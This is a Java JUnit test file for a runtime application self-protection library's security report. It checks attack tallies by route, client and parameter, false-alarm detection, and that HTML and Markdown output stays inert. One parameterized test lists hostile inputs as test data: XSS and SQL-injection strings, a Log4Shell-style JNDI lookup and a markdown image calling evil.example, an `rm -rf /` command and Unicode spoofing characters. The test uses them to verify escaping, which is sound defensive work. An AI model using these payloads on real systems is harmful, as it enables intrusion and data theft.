package io.github.raspspring.event.report;

import java.io.StringReader;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;

import io.github.raspspring.engine.Category;
import io.github.raspspring.engine.Confidence;
import io.github.raspspring.engine.Decision;
import io.github.raspspring.engine.Decision.Action;
import io.github.raspspring.engine.EndpointSection;
import io.github.raspspring.engine.Finding;
import io.github.raspspring.engine.InputLocation;
import io.github.raspspring.engine.InputValue;
import io.github.raspspring.engine.Rule;
import io.github.raspspring.engine.SectionOperation;
import io.github.raspspring.engine.SectionQuery;
import io.github.raspspring.engine.event.ThreatDetected;
import io.github.raspspring.event.EventHistory;
import io.github.raspspring.event.EventRecorder;
import io.github.raspspring.event.Pseudonyms;
import io.github.raspspring.event.mark.FalseAlarms;
import io.github.raspspring.event.report.SecurityReport.Suspect;
import io.github.raspspring.event.report.SecurityReport.Total;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;
import tools.jackson.databind.json.JsonMapper;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

/**
 * What happened is told to people, and nothing of an attack is at work in it.
 */
class ReportTests {

	private static final Instant NOW = Instant.parse("2026-11-29T12:00:00Z");

	private static final Clock CLOCK = Clock.fixed(NOW, ZoneOffset.UTC);

	private final EventHistory history = new EventHistory(5_000);

	private final EventRecorder recorder = new EventRecorder(Pseudonyms.none(), () -> null);

	private final List<EndpointSection> sections = new ArrayList<>();

	private final FalseAlarms marks = new FalseAlarms(this.history, (policy, method, template, exclusions) -> "",
			(method, path) -> path, CLOCK);

	private final ReportSection section = new ReportSection(this.history, () -> this.sections, this.marks, CLOCK);

	private int references;

	@Test
	void reportTellsWhatWasAttackedWhereFromWhereAndByWhom() {
		add(Action.BLOCK, Duration.ofHours(1), "/books/{id}", "192.0.2.1", "ada", "title");
		add(Action.BLOCK, Duration.ofHours(2), "/books/{id}", "192.0.2.1", null, "title");
		add(Action.MONITOR, Duration.ofHours(3), "/orders", "192.0.2.2", null, "note");
		add(Action.BLOCK, Duration.ofHours(30), "/orders", "192.0.2.3", null, "note");
		SecurityReport report = report("24h");
		assertThat(report.rules()).singleElement()
			.satisfies((count) -> assertThat(count.key() + count.count()).isEqualTo("sql-injection.tautology3"));
		assertThat(report.routes()).extracting((count) -> count.key() + ' ' + count.count())
			.containsExactly("/books/{id} 2", "/orders 1");
		assertThat(report.parameters()).extracting((count) -> count.key() + ' ' + count.count())
			.containsExactly("query:title 2", "query:note 1");
		assertThat(report.clients()).extracting((count) -> count.key() + ' ' + count.count())
			.containsExactly("192.0.2.1 2", "192.0.2.2 1");
		assertThat(report.subjects()).extracting((count) -> count.key() + ' ' + count.count()).containsExactly("ada 1");
		assertThat(report.totals()).contains(new Total("blocked", 2, 1));
		assertThat(report.trend()).hasSize(24);
		assertThat(report.trend().stream().mapToLong(SecurityReport.TrendPart::refused).sum()).isEqualTo(2);
		assertThat(report.trend().stream().mapToLong(SecurityReport.TrendPart::passed).sum()).isEqualTo(1);
		assertThat(report.trend().get(22).refused()).isEqualTo(1);
		assertThat(report.advice()).contains("Bind the value as a parameter.");
		assertThat(report.complete()).isTrue();
		assertThat(report.incidents()).extracting(SecurityReport.Incident::reference)
			.contains("ref-0", "ref-1", "ref-2");
		assertThat(text("html")).contains("ref-0", "ref-1", "ref-2");
	}

	@Test
	void whatSeveralOtherwiseQuietClientsSendIsSuspectedToBeAFalseAlarm() {
		for (int i = 1; i <= 4; i++) {
			add(Action.MONITOR, Duration.ofHours(1), "/comments", "192.0.2." + i, null, "text");
		}
		assertThat(report("24h").suspects()).singleElement().satisfies((suspect) -> {
			assertThat(suspect.parameter()).isEqualTo("query:text");
			assertThat(suspect.clients()).isEqualTo(4);
			assertThat(this.history.get(suspect.reference())).isNotNull();
		});
	}

	@Test
	void whatAttackersSendToManyFieldsIsNotSuspected() {
		for (int i = 1; i <= 4; i++) {
			for (String field : List.of("a", "b", "c")) {
				add(Action.BLOCK, Duration.ofHours(1), "/comments", "192.0.2." + i, null, field);
			}
		}
		add(Action.BLOCK, Duration.ofHours(1), "/lonely", "192.0.2.99", null, "text");
		assertThat(report("24h").suspects()).extracting(Suspect::route).isEmpty();
	}

	@Test
	void reportCountsMarksPerRule() {
		add(Action.BLOCK, Duration.ofHours(1), "/comments", "192.0.2.1", null, "text");
		add(Action.BLOCK, Duration.ofHours(1), "/comments", "192.0.2.1", null, "text");
		this.marks.operate(new SectionOperation("mark", "ref-0", Map.of("reason", "prose")));
		this.marks.operate(new SectionOperation("mark", "ref-1", Map.of()));
		assertThat(report("24h").marks()).singleElement()
			.satisfies((count) -> assertThat(count.key() + count.count()).isEqualTo("sql-injection.tautology2"));
	}

	@Test
	void roomsTellGapsOverduePatchesAndAdvice() {
		this.sections.add(new Room("inventory", List.of("Nobody limits /login."), List.of()));
		this.sections.add(new Room("patches", List.of("The virtual patch cve is overdue."), List.of()));
		this.sections.add(new Room("advice", List.of(), List.of("GET /books can go to mode block.")));
		SecurityReport report = report("7d");
		assertThat(report.gaps()).containsExactly("Nobody limits /login.");
		assertThat(report.overdue()).containsExactly("The virtual patch cve is overdue.");
		assertThat(report.advice()).containsExactly("GET /books can go to mode block.");
		assertThat(text("markdown")).contains("Nobody limits \\/login\\.").contains("cve is overdue");
		assertThat(text("html")).contains("Nobody limits /login.", "GET /books can go to mode block.");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' OR 1=1 -- ",
			"[x](javascript:alert(1))", "![x](http://evil.example/a)", "${jndi:ldap://evil.example/a}",
			"</td></tr></table><script>x</script>", "a|b|c\n# forged", "`rm -rf /`", "\u001b[31mred\u001b[0m",
			"<svg/onload=alert(1)>", "]]><!--", "&lt;script&gt;", "\u202etxt.exe", "a\u0000b\uffff\ud800" })
	void attackIsInertInEachForm(String attack) throws Exception {
		add(Action.BLOCK, Duration.ofHours(1), attack, attack, attack, attack);
		for (int i = 0; i < 4; i++) {
			add(Action.MONITOR, Duration.ofHours(1), attack, "192.0.2." + i + attack, attack, attack);
		}
		this.marks.operate(new SectionOperation("mark", "ref-0", Map.of("reason", attack)));
		this.sections.add(new Room("x", List.of(attack), List.of(attack)));
		inertPage(text("html"));
		inertMarkdown(text("markdown"));
		String json = new JsonMapper().writeValueAsString(this.section.content(SectionQuery.ALL));
		assertThat(new JsonMapper().readTree(json).get("gaps").get(0).asString()).isNotNull();
	}

	@ParameterizedTest
	@ValueSource(strings = { "0s", "-1d", "367d", "yesterday", "59s", "7", "P1Y" })
	void periodThatIsNoneIsRefused(String period) {
		assertThatIllegalArgumentException().isThrownBy(() -> report(period)).withMessageContaining("period");
	}

	@ParameterizedTest
	@ValueSource(strings = { "pdf", "HTML", "", "json,html", "../html", "xml" })
	void formatThatIsNoneIsRefused(String format) {
		assertThatIllegalArgumentException().isThrownBy(() -> text(format)).withMessageContaining("format");
	}

	@Test
	void emptyReportIsWhole() throws Exception {
		inertPage(text("html"));
		assertThat(text("markdown")).contains("# Security report", "Nothing.");
		assertThat(report("1m").rules()).isEmpty();
	}

	@Test
	void longReportIsBounded() {
		for (int i = 0; i < 3_000; i++) {
			add(Action.BLOCK, Duration.ofHours(1), "/route/" + i, "client-" + i, null, "p" + i);
		}
		assertThat(report("24h").routes()).hasSize(10);
		assertThat(text("html")).hasSizeLessThan(60_000);
	}

	private static void inertPage(String page) throws Exception {
		DocumentBuilder builder = DocumentBuilderFactory.newInstance().newDocumentBuilder();
		Document document = builder.parse(new InputSource(new StringReader(page)));
		assertThat(document.getDocumentElement().getAttribute("lang")).isEqualTo("en");
		NodeList all = document.getElementsByTagName("*");
		for (int i = 0; i < all.getLength(); i++) {
			Element element = (Element) all.item(i);
			assertThat(element.getTagName()).isIn("html", "head", "meta", "title", "style", "body", "main", "h1", "h2",
					"p", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "svg", "g", "rect", "line", "text");
			for (int j = 0; j < element.getAttributes().getLength(); j++) {
				assertThat(element.getAttributes().item(j).getNodeName()).doesNotStartWith("on")
					.isNotIn("href", "src", "style", "xlink:href");
			}
		}
		assertThat(document.getElementsByTagName("svg").getLength()).isEqualTo(1);
	}

	private static void inertMarkdown(String text) {
		assertThat(text).doesNotContain("<");
		assertThat(text.lines()).allSatisfy((line) -> {
			assertThat(line).doesNotContainPattern("\\p{Cntrl}|[\u202e\u2028]");
			assertThat(line).doesNotContainPattern("(?<!\\\\)[`\\[\\]!*_]");
			assertThat(line.startsWith("#") && line.contains("forged")).isFalse();
		});
	}

	private SecurityReport report(String period) {
		return (SecurityReport) this.section.content(new SectionQuery(Map.of("period", period)));
	}

	private String text(String format) {
		Object content = this.section.content(new SectionQuery(Map.of("format", format)));
		return (content instanceof EndpointSection.Page page) ? page.text() : content.toString();
	}

	private void add(Action action, Duration ago, String route, String client, String subject, String parameter) {
		Finding finding = Finding
			.of("sql-injection", Category.INJECTION,
					new Rule("tautology", "CWE-89", "A condition is always true.", "Bind the value as a parameter."))
			.confidence(Confidence.STRONG)
			.at(new InputValue(InputLocation.QUERY, parameter, "x"))
			.build();
		String reference = "ref-" + this.references++;
		Decision decision = new Decision(action, 5, List.of(finding), "default", reference, null, Action.BLOCK);
		ThreatDetected event = new ThreatDetected(reference, NOW.minus(ago), "GET", route, "/", client, subject,
				decision);
		this.history.add(event, this.recorder.record(event));
	}

	private record Room(String name, List<String> gaps, List<String> nextSteps) implements EndpointSection {

		@Override
		public Map<String, Object> overview() {
			return Map.of();
		}

		@Override
		public Object content() {
			return Map.of();
		}

	}

}
